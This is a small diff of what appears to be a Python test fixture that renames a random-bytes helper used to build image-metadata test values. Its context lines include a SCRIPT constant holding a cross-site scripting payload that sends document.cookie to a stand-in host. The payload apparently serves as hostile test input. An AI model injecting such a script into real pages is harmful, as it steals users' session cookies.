@@ -16,13 +16,13 @@ SCRIPT = b"<script>fetch('//elsewhere.invalid/'+document.cookie)</script>"
 HEX = random.Random(18)
 
 
-def told(length: int) -> bytes:
+def unlike_any(length: int) -> bytes:
     """Text that stands nowhere else, so that each of its windows would be recognised."""
     return HEX.randbytes(length // 2).hex().encode()
 
 
-PLACE, CAMERA, COMMENT, XMP, IPTC = (told(400) for _ in range(5))
-HUGE = told(60_000)
+PLACE, CAMERA, COMMENT, XMP, IPTC = (unlike_any(400) for _ in range(5))
+HUGE = unlike_any(60_000)
 METADATA = [PLACE, CAMERA, COMMENT, XMP, IPTC, HUGE, SCRIPT]
 
 
